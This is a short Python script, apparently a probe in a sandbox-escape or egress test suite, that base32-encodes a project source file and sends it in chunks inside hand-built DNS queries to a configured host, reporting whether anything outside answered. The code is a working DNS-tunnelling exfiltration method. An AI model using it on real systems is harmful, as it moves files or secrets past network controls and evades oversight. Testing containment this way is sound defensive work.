#!/usr/bin/env python3
"""Sends encoded text in name-service queries, as many small packets."""

import base64
import json
import os
import socket
import sys

ID = "own-udp-chunks"


def attempt():
    host, port = os.environ["DSG_DNS"].rsplit(":", 1)
    text = base64.b32encode(open("/workspace/project/ledgerkit.py", "rb").read()).decode().rstrip("=").lower()
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        for n in range(6):
            label = text[n * 50:n * 50 + 50]
            query = bytes([0, n, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, len(label)]) + label.encode() + b"\x07example\x07invalid\0\0\1\0\1"
            try:
                s.sendto(query, (host, int(port)))
                sent += s.recv(100) == b"outside"
            except OSError as e:
                detail = str(e)
    return sent > 0, f"{sent} answered" if sent else detail


def main():
    try:
        succeeded, detail = attempt()
    except (OSError, MemoryError) as e:
        succeeded, detail = False, f"{type(e).__name__}: {e}"
    print("\n" + json.dumps({"id": ID, "attempted": True, "succeeded": succeeded, "detail": detail[:300]}), flush=True)
    return 10 if succeeded else 0


if __name__ == "__main__":
    sys.exit(main())
